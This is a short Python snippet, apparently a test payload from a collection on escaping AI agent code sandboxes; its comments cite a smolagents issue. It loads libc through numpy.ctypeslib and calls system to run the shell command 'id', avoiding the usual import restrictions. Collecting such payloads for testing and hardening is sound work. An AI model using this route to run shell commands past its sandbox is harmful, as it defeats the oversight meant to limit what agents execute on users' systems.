# Source: https://github.com/huggingface/smolagents/issues/2094 (ctypes libc.system); https://numpy.org/doc/stable/reference/routines.ctypeslib.html
# Family: data-is-code
# What: numpy.ctypeslib.load_library loads libc and calls system
import numpy as np

libc = np.ctypeslib.load_library("libc.so.6", "/lib/x86_64-linux-gnu")
libc.system(b"id")
